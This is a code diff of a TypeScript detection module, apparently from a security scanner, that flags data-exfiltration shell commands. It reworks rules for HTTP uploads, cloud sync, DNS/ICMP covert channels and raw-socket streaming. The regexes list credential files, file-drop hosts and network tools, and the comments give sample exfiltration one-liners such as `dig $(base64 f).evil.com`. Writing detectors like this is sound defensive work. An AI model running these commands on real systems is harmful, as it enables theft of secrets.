@@ -1,40 +1,66 @@
-/** Data exfiltration and credential access: secrets read, searched for, archived or sent off the machine. */
-import { excerpt, isIpLiteral, isLoopback, isTempPath, SECRET_FILE, SENSITIVE_FILE, urlsIn } from '../patterns.js';
-import { baseName } from '../shell-parse.js';
+/**
+ * Exfiltration (T1041, T1048, T1567) and its preparation (T1560): data sent off the machine by any program that can
+ * move bytes (HTTP clients, raw sockets, file-transfer and cloud-sync tools, DNS and ICMP), archived from places that
+ * hold secrets, or encrypted with a password given on the command line.
+ */
+import { excerpt, FILE_DROP_HOST, isIpLiteral, isLoopback, isTempPath, SECRET_FILE, SENSITIVE_FILE, urlsIn } from '../patterns.js';
 import { invocationsOf, type Subject } from '../subject.js';
 import { networkRelays } from './reverse-shell.js';
 import type { Evidence } from '../types.js';
 import type { Rule } from './rule.js';
 
 /** Anything that can carry bytes off the machine. */
-const NETWORK_CHANNEL = /\/dev\/(?:tcp|udp)\/|\bztcp\b|socket\.|fsockopen|IO::Socket|TCPSocket|java\.net\.Socket|urlopen|urllib|requests\.(?:post|put)|http\.client|LWP::|Net::HTTP|\b(?:curl|wget|nc|ncat|netcat|socat|s_client|whois|hping3?|nping|ftp|tftp|sendmail|smbclient)\b/;
-/** Programs that print or copy a file's content. */
-const READERS = new Set(['cat', 'head', 'tail', 'less', 'more', 'base64', 'base32', 'xxd', 'hexdump', 'od', 'strings', 'dd', 'cp', 'tac', 'nl', 'gzip', 'zip', 'sqlite3', 'grep', 'egrep', 'awk', 'cut', 'unshadow', 'john', 'hashcat']);
-const CREDENTIAL_WORD = /password|passwd|secret[_-]?key|api[_-]?key|access[_-]?key|aws_secret|BEGIN [A-Z ]*PRIVATE|PRIVATE KEY|\bAKIA/i;
-/** Services where anyone can drop a file and fetch it later. */
-const FILE_DROP_HOST = /(?:^|\.)(?:transfer\.sh|file\.io|0x0\.st|termbin\.com|pastebin\.com|paste\.ee|anonfiles\.com|gofile\.io|webhook\.site|requestbin\.net|pipedream\.net|ngrok(?:-free)?\.(?:io|app)|temp\.sh|bashupload\.com|oshi\.at)$/;
+const NETWORK_CHANNEL = /\/dev\/(?:tcp|udp)\/|\bztcp\b|socket\.|fsockopen|IO::Socket|TCPSocket|java\.net\.Socket|urlopen|urllib|requests\.(?:post|put)|http\.client|LWP::|Net::HTTP|require\s*\(?\s*["'](?:https?|net|socket)["']\)?|\b(?:curl|wget|nc|ncat|netcat|socat|s_client|whois|hping3?|nping|ftp|tftp|lftp|sendmail|mail|mutt|smbclient|finger|cancel|rlogin|restic|rclone|gsutil|azcopy)\b/;
 /** Credential directories whose archive is the whole haul. */
-const CREDENTIAL_DIR = /(?:^|\/)\.(?:ssh|aws|kube|gnupg|docker)(?:\/|$)|\/etc\/kubernetes\/pki|\/var\/lib\/rancher\/k3s\/server\/tls|\/var\/run\/secrets/;
-const CREDENTIAL_FILE_NAME = /^['"]?\*?(?:credentials(?:\.db|\.json)?|access_tokens\.db|id_(?:rsa|dsa|ecdsa|ed25519)|\*?\.pem|\*?\.key|\.git-credentials|\.netrc|wallet\.dat|shadow|kubeconfig|\*?\.kdbx|\.pgpass|\.vault-token|\.env|wp-config\.php|terraform\.tfstate)['"]?$/i;
+const CREDENTIAL_DIR = /(?:^|\/)\.(?:ssh|aws|kube|gnupg|docker|azure|config\/gcloud)(?:\/|$)|\/etc\/kubernetes\/pki|\/var\/lib\/rancher\/k3s\/server\/(?:tls|db|cred)|\/var\/run\/secrets|\/run\/secrets/;
 /** Directories whose archive is a haul of secrets. */
-const SENSITIVE_DIR = /(?:^|[\s'"(=])(?:\/etc|\/root|\/home)(?=[/\s'")]|$)|\.ssh\b|\/var\/lib\/rancher\/k3s\/server|\/etc\/kubernetes|\/var\/lib\/etcd|\/var\/run\/secrets/;
-
+const SENSITIVE_DIR = /(?:^|[\s'"(=])(?:\/etc|\/root|\/home|\/Users)(?=[/\s'")*]|$)|\.ssh\b|\/var\/lib\/rancher\/k3s\/server|\/etc\/kubernetes|\/var\/lib\/etcd|\/var\/run\/secrets/;
 /**
- * curl `-d @file`, `-F f=@file`, `-T file`; wget `--post-file`; ab `-p file`: a local file uploaded to another host,
- * when the file is sensitive or in a temporary directory, or the host is a bare IP or a public drop box.
- * (Posting `@alert.json` to an in-cluster API or a backup to the NAS is ordinary.)
+ * curl `-d @file`, `-F f=@file`, `-T file`, `--data "$(cat file)"`; wget `--post-file`; ab `-p file`: a local file
+ * uploaded to another host, when the file is sensitive or in a temporary directory, or the host is a bare IP or a
+ * public drop box. (Posting `@alert.json` to an in-cluster API or a backup to the NAS is ordinary.)
  */
 const httpUpload: Rule = {
   name: 'http-file-upload',
   category: 'data_exfiltration',
   severity: 'high',
+  techniques: ['T1048.002', 'T1567', 'T1041'],
   match: (s): Evidence | undefined => {
-    for (const inv of invocationsOf(s, 'curl', 'wget', 'ab', 'http', 'https')) {
+    for (const inv of invocationsOf(s, 'curl', 'wget', 'ab', 'http', 'https', 'xh', 'lwp-request', 'POST')) {
       const file = uploadedFile(inv.program, inv.args);
-      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host));
+      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host)) ?? bareRemote(inv.args);
       if (file === undefined || !remote) continue;
-      const loot = SENSITIVE_FILE.test(file) || isTempPath(file) || isIpLiteral(remote.host) || FILE_DROP_HOST.test(remote.host);
+      const loot = SENSITIVE_FILE.test(file) || isTempPath(file) || isIpLiteral(remote.host) || FILE_DROP_HOST.test(remote.host) || /^(?:gopher|dict|tftp):/i.test(remote.url);
       if (loot) return { file, destination: remote.url.slice(0, 160) };
+    }
+    return undefined;
+  },
+};
+
+/**
+ * `wget --post-data=...`, `curl gopher://host/_DATA`, `curl -d $(... | base64) http://203.0.113.5`: data pushed to a
+ * remote host by a tool scripts use to fetch, not to post; or encoded data posted to a bare address.
+ */
+const dataPosted: Rule = {
+  name: 'data-posted-to-remote',
+  category: 'data_exfiltration',
+  severity: 'medium',
+  techniques: ['T1048', 'T1041', 'T1132.001'],
+  match: (s): Evidence | undefined => {
+    for (const inv of invocationsOf(s, 'wget')) {
+      const post = inv.args.find((a) => /^--(?:post|body)-(?:data|file)\b|^--method=(?:POST|PUT)$/i.test(a));
+      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host));
+      if (post !== undefined && remote) return { tool: 'wget', option: post.slice(0, 60), destination: remote.url.slice(0, 120) };
+    }
+    for (const inv of invocationsOf(s, 'curl')) {
+      const gopher = inv.args.find((a) => /^(?:gopher|dict|telnet):\/\//i.test(a));
+      if (gopher !== undefined) return { tool: 'curl', destination: gopher.slice(0, 120) };
+      const data = inv.args.find((a, i) => /^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form)$/.test(inv.args[i - 1] ?? '') && /\$\(|`|base64|xxd/.test(a));
+      const remote = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host) && isIpLiteral(u.host));
+      if (data !== undefined && remote) return { tool: 'curl', data: data.slice(0, 60), destination: remote.url.slice(0, 120) };
+      const posted = inv.args.some((a) => /^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)$/.test(a) || /^-X\s*(?:POST|PUT)$/.test(a));
+      const drop = urlsIn(inv.args.join(' ')).find((u) => FILE_DROP_HOST.test(u.host));
+      if (posted && drop) return { tool: 'curl', destination: drop.url.slice(0, 120) };
     }
     return undefined;
   },
@@ -44,13 +70,14 @@ const sensitiveFileSent: Rule = {
   name: 'credential-file-over-network',
   category: 'data_exfiltration',
   severity: 'critical',
+  techniques: ['T1041', 'T1048', 'T1552.001'],
   match: (s): Evidence | undefined => {
     const file = excerpt(s.text, SENSITIVE_FILE);
     const channel = excerpt(s.text, NETWORK_CHANNEL, 40);
-    if (file !== undefined && channel !== undefined) return { file, channel };
+    if (file !== undefined && channel !== undefined && !onlyAuthenticates(s, file)) return { file, channel };
     // Copying a kubeconfig to a laptop with scp is the K3s docs' advice; copying a password hash or key off is not.
     // The key given to `scp -i` or `rsync -e 'ssh -i ...'` authenticates the copy; it is not what is copied.
-    for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp')) {
+    for (const inv of invocationsOf(s, 'scp', 'rsync', 'sftp', 'sshfs')) {
       const copied = inv.args.filter((a, i) => !/^-[ieoFP]$/.test(inv.args[i - 1] ?? '') && !a.startsWith('-')).find((a) => SECRET_FILE.test(a));
       if (copied !== undefined) return { file: copied, channel: inv.program };
     }
@@ -58,104 +85,99 @@ const sensitiveFileSent: Rule = {
   },
 };
 
-/** `cat /etc/shadow`, `kubectl exec pod -- cat .../serviceaccount/token`, `dd if=/proc/PID/mem`. */
-const credentialRead: Rule = {
-  name: 'credential-file-read',
-  category: 'data_exfiltration',
-  severity: 'high',
-  match: (s): Evidence | undefined => {
-    for (const inv of s.invocations) {
-      const argv = inv.command.argv;
-      const reader = argv.findIndex((a) => READERS.has(baseName(a)));
-      if (reader < 0) continue;
-      const file = argv.slice(reader + 1).find((a) => SECRET_FILE.test(a)) ?? inv.command.redirects.find((r) => r.op === '<' && SECRET_FILE.test(r.target))?.target;
-      if (file !== undefined) return { reader: baseName(argv[reader]), file };
-    }
-    return undefined;
-  },
-};
-
-/** `grep -ri password /`, `find / -name id_rsa`: hunting for credentials across the filesystem. */
-const credentialSearch: Rule = {
-  name: 'credential-search',
-  category: 'data_exfiltration',
-  severity: 'high',
-  match: (s): Evidence | undefined => {
-    for (const inv of invocationsOf(s, 'grep', 'egrep', 'rg', 'ag')) {
-      const recursive = inv.program !== 'grep' && inv.program !== 'egrep' ? true : inv.args.some((a) => /^-[a-zA-Z]*[rR]/.test(a) || a === '--recursive');
-      const word = inv.args.find((a) => !a.startsWith('-') && CREDENTIAL_WORD.test(a));
-      // Whole filesystems and homes, not one config file (`grep -rn password /etc/grafana/grafana.ini`).
-      const roots = inv.args.filter((a) => /^(?:\/[^/\s]*|~[^/\s]*)\/?$/.test(a));
-      if (recursive && word !== undefined && roots.length > 0) return { search: word, in: roots.join(' ') };
-    }
-    for (const inv of invocationsOf(s, 'find', 'locate')) {
-      const name = inv.args.find((a, i) => CREDENTIAL_FILE_NAME.test(a) && (inv.program === 'locate' || /^-i?(?:name|path|wholename)$/.test(inv.args[i - 1] ?? '')));
-      // A search of the current project (`find . -name '*.pem'`) is housekeeping; of the filesystem or a home, a hunt.
-      const root = inv.args[0] ?? '';
-      if (name !== undefined && /^[/~]/.test(root)) return { search: name, in: root };
-    }
-    return undefined;
-  },
-};
-
-const secretsApi: Rule = {
-  name: 'kubernetes-secrets-api-read',
-  category: 'data_exfiltration',
-  severity: 'high',
-  match: (s): Evidence | undefined => {
-    const url = urlsIn(s.text).find((u) => /\/api\/v1\/(?:namespaces\/[^/\s]+\/)?secrets\b/.test(u.url));
-    return url ? { url: url.url.slice(0, 160) } : undefined;
-  },
-};
+/**
+ * True when every mention of the sensitive file only authenticates a tool (`curl --cacert`, `-E key`, `--key`,
+ * `--kubeconfig`) or is a kubeconfig handed to kubectl and friends; a file redirected into a socket tool, or named in
+ * code, is sent.
+ */
+function onlyAuthenticates(s: Subject, file: string): boolean {
+  const mentions = s.invocations.flatMap((inv) => [
+    ...inv.args.map((a, i) => (a.includes(file) ? /^(?:--(?:cacert|cert|key|kubeconfig|config|netrc-file|token-file)|-E|--netrc)$/.test(inv.args[i - 1] ?? '') || /^--(?:cacert|cert|key|kubeconfig|netrc-file)=/.test(a) || /^(?:kubectl|helm|k3s|k9s|ssh|scp)$/.test(inv.program) : undefined)),
+    ...inv.command.redirects.map((r) => (r.target.includes(file) ? false : undefined)),
+  ]).filter((m) => m !== undefined);
+  return mentions.length > 0 && mentions.every((m) => m);
+}
 
 /** `tar -cf - /etc`, `ssh h "(cd /etc && tar -zcvf - *)"`, `zip -r x.zip ~/.ssh`: secrets archived to a stream or staged. */
 const archiveToStream: Rule = {
   name: 'sensitive-archive-to-stream',
   category: 'data_exfiltration',
   severity: 'high',
+  techniques: ['T1560.001', 'T1048'],
   match: (s): Evidence | undefined => {
     const archive = excerpt(s.text, /\btar\s+(?:--?[\w=-]+\s+)*-?[A-Za-z]*c[A-Za-z]*f\s+-(?=[\s)]|$)/);
     const dir = excerpt(s.text, SENSITIVE_DIR);
     if (archive !== undefined && dir !== undefined) return { archive, source: dir.trim() };
-    const staged = invocationsOf(s, 'tar', 'zip', '7z', '7za', 'rar').find((inv) => inv.args.some((a) => CREDENTIAL_DIR.test(a)));
+    const staged = invocationsOf(s, 'tar', 'zip', '7z', '7za', 'rar', 'gtar', 'bsdtar').find((inv) => inv.args.some((a) => CREDENTIAL_DIR.test(a)));
     return staged ? { archive: staged.program, source: staged.args.find((a) => CREDENTIAL_DIR.test(a)) ?? '' } : undefined;
   },
 };
 
-/** A web server rooted at `/`, or the API server proxied to every interface. */
+/**
+ * `aws s3 cp ~/.ssh s3://x --recursive`, `rclone copy /var/lib/rancher/k3s/server remote:`, `restic backup -r rest:http://...
+ * /etc/shadow`: credentials or the cluster's keys synced to storage outside the node.
+ */
+const cloudSync: Rule = {
+  name: 'secrets-synced-off-host',
+  category: 'data_exfiltration',
+  severity: 'high',
+  techniques: ['T1567.002', 'T1537'],
+  match: (s): Evidence | undefined => {
+    for (const inv of invocationsOf(s, 'aws', 'rclone', 'gsutil', 'azcopy', 'restic', 'mc', 's3cmd', 'gcloud', 'rsync', 'lftp', 'smbclient', 'tftp', 'ftp')) {
+      // Backups of /etc or of etcd snapshots to the NAS are ordinary; user credentials and the cluster's keys are not.
+      const operands = inv.args.filter((a, i) => !a.startsWith('-') && !/^(?:-e|--rsh|-i|--identity|--password-file)$/.test(inv.args[i - 1] ?? ''));
+      const source = operands.find((a) => (CREDENTIAL_DIR.test(a) && !/\/server\/db\b/.test(a)) || SECRET_FILE.test(a));
+      const remote = inv.args.some((a) => /^(?:s3|gs|az|https?|rest:https?|sftp|ftp):\/\/|^[\w-]+:[\w./-]*$|^\/\/|^\\\\|@[\w.-]+:|^put$/.test(a) || /\bput\b/.test(a));
+      if (source !== undefined && remote) return { tool: inv.program, source };
+    }
+    return undefined;
+  },
+};
+
+/** A web server rooted at `/` or at a directory of secrets, or the API server proxied to every interface. */
 const rootFilesystemServed: Rule = {
   name: 'filesystem-served-over-http',
   category: 'data_exfiltration',
   severity: 'high',
+  techniques: ['T1048.003', 'T1567'],
   match: (s): Evidence | undefined => {
     for (const inv of s.invocations) {
       const text = ` ${inv.args.join(' ')} `;
-      const isServer = inv.program === 'httpd' || /http\.server|SimpleHTTPServer/.test(text) || (inv.program === 'php' && text.includes(' -S ')) || (inv.program === 'kubectl' && inv.args[0] === 'proxy');
+      const isServer = inv.program === 'httpd' || /http\.server|SimpleHTTPServer|-run\s+-e\s+httpd|\bhttpd\b/.test(text) || (inv.program === 'php' && text.includes(' -S ')) || (inv.program === 'kubectl' && inv.args[0] === 'proxy') || /^(?:tailscale|ngrok|cloudflared)$/.test(inv.program) && /\b(?:serve|funnel|http)\b/.test(text);
       if (!isServer) continue;
-      const root = excerpt(text, /\s(?:-h|-d|-t|--www|--directory)[=\s]+\/(?=\s)/) ?? excerpt(text, /\s--address[=\s]+0\.0\.0\.0(?=\s)/);
+      const root = excerpt(text, /\s(?:-h|-d|-t|--www|--directory|--root|serve\s+--\w+=\d+|--http=\d+)[=\s]+(?:\/|\/etc|\/root|\/home|\/var\/lib\/rancher\S*|\S*\.ssh\S*|\S*k3s\.yaml)(?=\s)/) ?? excerpt(text, /\s--address[=\s]+0\.0\.0\.0(?=\s)/);
       if (root !== undefined) return { server: inv.program, option: root.trim() };
     }
     return undefined;
   },
 };
 
-/** `openssl enc -pass pass:...`, `zip -P`, `7z -p...`: data encrypted with a password on the command line before it leaves. */
+/** `openssl enc -pass pass:...`, `zip -P`, `7z -p...`, `gpg --passphrase`: data encrypted with a password on the command line before it leaves. */
 const encryptWithInlinePassword: Rule = {
   name: 'encrypt-with-inline-password',
   category: 'data_exfiltration',
   severity: 'medium',
+  techniques: ['T1560.001', 'T1486', 'T1027.013'],
   match: (s): Evidence | undefined => {
-    const openssl = invocationsOf(s, 'openssl').find((inv) => /^(?:enc|aes-\d+-\w+|des\w*)$/.test(inv.args[0] ?? '') && inv.args.some((a) => /^pass:/.test(a) || a === '-k'));
+    const openssl = invocationsOf(s, 'openssl').find((inv) => /^(?:enc|aes-\d+-\w+|des\w*|rsautl|pkeyutl)$/.test(inv.args[0] ?? '') && (inv.args.some((a) => /^pass:/.test(a) || a === '-k') || (/^(?:rsautl|pkeyutl)$/.test(inv.args[0] ?? '') && inv.args.includes('-encrypt'))));
     if (openssl) return { tool: 'openssl', cipher: openssl.args.find((a) => /^-aes|^-des|^-chacha/.test(a)) ?? openssl.args[0] };
-    const archiver = invocationsOf(s, 'zip', '7z', '7za').find((inv) => inv.args.some((a) => a === '-P' || /^-p\S+/.test(a)));
-    return archiver ? { tool: archiver.program, option: 'password on command line' } : undefined;
+    // Creating or opening a password-protected archive (T1027.013: payloads ship in one to pass scanners).
+    const archiver = invocationsOf(s, 'zip', 'unzip', '7z', '7za', 'rar', 'unrar').find((inv) => inv.args.some((a) => a === '-P' || a === '--password' || /^-p\S+/.test(a)));
+    if (archiver) return { tool: archiver.program, option: 'password on command line' };
+    const gpg = invocationsOf(s, 'gpg', 'gpg2', 'ccencrypt', 'ccrypt').find((inv) => inv.args.some((a) => /^--passphrase(?:-fd)?(?:=|$)|^-K$/.test(a)) && inv.args.some((a) => /^-c$|^--symmetric$|^-[a-zA-Z]*e/.test(a) || inv.program.startsWith('cc')));
+    return gpg ? { tool: gpg.program, option: 'passphrase on command line' } : undefined;
   },
 };
 
 function uploadedFile(program: string, args: readonly string[]): string | undefined {
   for (let i = 0; i < args.length; i++) {
     const [a, next] = [args[i], args[i + 1] ?? ''];
-    if (program === 'curl' && /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form)$/.test(a) && /(?:^|=)@[^\s]+/.test(next)) return next.replace(/^.*?@/, '');
+    if (program === 'curl' && /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form)$/.test(a)) {
+      if (/(?:^|=)@[^\s]+/.test(next)) return next.replace(/^.*?@/, '').replace(/["';].*$/, '');
+      // `--data "$(cat /tmp/loot.txt)"`, `-d "{\"text\":\"$(</etc/passwd)\"}"`: a file's content inlined.
+      const inlined = /\$\(\s*(?:cat\s+|<\s*)([^\s)]+)|`cat\s+([^\s`]+)`/.exec(next);
+      if (inlined) return inlined[1] ?? inlined[2];
+    }
     if (program === 'curl' && (a === '-T' || a === '--upload-file')) return next;
     if (program === 'wget' && /^--(?:post|body)-file(?:=|$)/.test(a)) return a.includes('=') ? a.slice(a.indexOf('=') + 1) : next;
     if (program === 'ab' && (a === '-p' || a === '-u')) return next;
@@ -164,65 +186,57 @@ function uploadedFile(program: string, args: readonly string[]): string | undefi
   return undefined;
 }
 
-/** Cloud instance metadata credential endpoints: the node's cloud identity, one request away. */
-const cloudMetadataCredentials: Rule = {
-  name: 'cloud-metadata-credentials',
-  category: 'data_exfiltration',
-  severity: 'high',
-  match: (s) => {
-    const url = urlsIn(s.text).find((u) => /^(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[fd00:ec2::254\])$/.test(u.host) && /security-credentials|service-accounts\/[^/]+\/token|identity|oauth2\/token|ram\/security/.test(u.url));
-    return url ? { url: url.url.slice(0, 160) } : undefined;
-  },
-};
+/** A destination written without a scheme (`curl -T f 203.0.113.5:8080`). */
+function bareRemote(args: readonly string[]): { url: string; host: string } | undefined {
+  const arg = args.find((a) => /^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:\/\S*)?$/.test(a));
+  return arg === undefined ? undefined : { url: arg, host: arg.replace(/[:/].*$/, '') };
+}
 
-/** Data carried in DNS names (`dig $(base64 f).evil.com`) or ICMP padding (`ping -p <hex>`). */
+/** Data carried in DNS names (`dig $(base64 f).evil.com`, `nslookup $(whoami).x.io`) or ICMP padding (`ping -p <hex>`). */
 const covertChannel: Rule = {
   name: 'dns-icmp-covert-channel',
   category: 'data_exfiltration',
   severity: 'high',
+  techniques: ['T1048.003', 'T1071.004', 'T1132.001'],
   match: (s): Evidence | undefined => {
-    const dns = excerpt(s.text, /\b(?:dig|nslookup|host|drill)\b[^|;]*(?:\$\(|`)[^)`]*\b(?:base64|base32|xxd|od|hexdump)\b/);
+    const substitution = String.raw`(?:\$\([^)]*\)|\`[^\`]*\`)\.[\w-]+\.[a-z]{2,}\b`;
+    const dns = excerpt(s.text, new RegExp(String.raw`\b(?:dig|nslookup|host|drill|ping)\b[^|;]*?(?:\s|@)${substitution}|\b(?:curl|wget)\b[^|;]*?:\/\/(?:[\w-]+\.)*${substitution}`))
+      ?? excerpt(s.text, /\b(?:dig|nslookup|host|drill)\b[^|;]*(?:\$\(|`)[^)`]*\b(?:base64|base32|xxd|od|hexdump)\b/);
     if (dns !== undefined) return { dns };
+    // A host name whose first label is encoded data: a long base32/hex run, or base64 with its `=` padding.
+    const encoded = s.invocations.filter((inv) => /^(?:dig|nslookup|host|drill|ping|curl|wget)$/.test(inv.program)).flatMap((inv) => inv.args).find((a) => /^(?:https?:\/\/)?(?:[A-Za-z0-9+/_-]{24,}|[A-Za-z0-9+/_-]{8,}={1,2})\.[\w-]+\.[a-z]{2,}\b/.test(a) && (/\d/.test(a.split('.')[0]) || /=\./.test(a)));
+    if (encoded !== undefined) return { encodedHost: encoded.slice(0, 120) };
     const ping = invocationsOf(s, 'ping', 'hping3', 'nping').find((inv) => inv.args.some((a, i) => /^-p$|^--data$|^-E$|^--file$/.test(inv.args[i - 1] ?? '') && /\$|^[0-9a-f]{8,}$/i.test(a)));
     return ping ? { icmp: `${ping.program} ${ping.args.join(' ')}`.slice(0, 120) } : undefined;
   },
 };
 
-/** `nc host port < file`, `tar c dir | nc host port`: a file streamed to a raw socket. */
+/** `nc host port < file`, `tar c dir | nc host port`, `cat f > /dev/tcp/h/p`: a file streamed to a raw socket. */
 const fileToRawSocket: Rule = {
   name: 'file-streamed-to-socket',
   category: 'data_exfiltration',
   severity: 'high',
+  techniques: ['T1048', 'T1041'],
   match: (s) => {
+    // A fifo in /tmp feeding the relay is a reverse shell's plumbing (reported as such); any other file is data sent.
+    const fifo = /\bmk(?:fifo|nod)\b/.test(s.text);
     for (const relay of networkRelays(s)) {
-      const input = relay.command.redirects.find((r) => r.op === '<' && r.target && !isTempPath(r.target) && !r.target.startsWith('/dev/'))?.target ?? pipedArchive(s, relay.command.pipedFrom);
+      const input = relay.command.redirects.find((r) => r.op === '<' && r.target && !(fifo && isTempPath(r.target)) && !r.target.startsWith('/dev/'))?.target ?? pipedArchive(s, relay.command.pipedFrom);
       const host = relay.args.find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
-      if (input !== undefined && host !== undefined && !isLoopback(host)) return { tool: relay.program, input, host };
+      if (input !== undefined && host !== undefined && !isLoopback(host.replace(/^tcp[46]?(?:-connect)?:|:\d+$/gi, ''))) return { tool: relay.program, input, host };
     }
-    return undefined;
+    const devTcp = s.invocations.find((inv) => /^(?:cat|tar|base64|xxd|gzip|dd|zip)$/.test(inv.program) && inv.args.some((a) => !a.startsWith('-')) && inv.command.redirects.some((r) => />/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target)));
+    return devTcp ? { tool: devTcp.program, input: devTcp.args.join(' ').slice(0, 80), host: devTcp.command.redirects.find((r) => /^\/dev\//.test(r.target))?.target ?? '' } : undefined;
   },
 };
 
 /** The reader or archiver feeding a pipe, when one does. */
 function pipedArchive(s: Subject, pipedFrom: boolean): string | undefined {
   if (!pipedFrom) return undefined;
-  const feeder = s.invocations.find((inv) => inv.command.pipesTo && /^(?:cat|tar|zip|gzip|base64|xxd|dd)$/.test(inv.program));
+  const feeder = s.invocations.find((inv) => inv.command.pipesTo && /^(?:cat|tar|zip|gzip|base64|xxd|dd)$/.test(inv.program) && inv.args.some((a) => !a.startsWith('-') || a === '-'));
   return feeder ? `${feeder.program} ${feeder.args.join(' ')}`.slice(0, 120) : undefined;
 }
 
-/** `john --wordlist=... hashes`, `hashcat -m 1800 ...`: stolen password hashes being cracked. */
-const passwordCracking: Rule = {
-  name: 'password-cracking',
-  category: 'data_exfiltration',
-  severity: 'high',
-  match: (s) => {
-    const inv = invocationsOf(s, 'john', 'hashcat').find((i) => i.args.some((a) => /^--(?:wordlist|format|show|incremental)|^-[ma]$/.test(a)));
-    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 160) } : undefined;
-  },
-};
-
 export const DATA_EXFILTRATION_RULES: readonly Rule[] = [
-  passwordCracking,
-  cloudMetadataCredentials, covertChannel, fileToRawSocket,
-  httpUpload, sensitiveFileSent, credentialRead, credentialSearch, secretsApi, archiveToStream, rootFilesystemServed, encryptWithInlinePassword,
+  covertChannel, fileToRawSocket, httpUpload, sensitiveFileSent, archiveToStream, cloudSync, rootFilesystemServed, dataPosted, encryptWithInlinePassword,
 ];
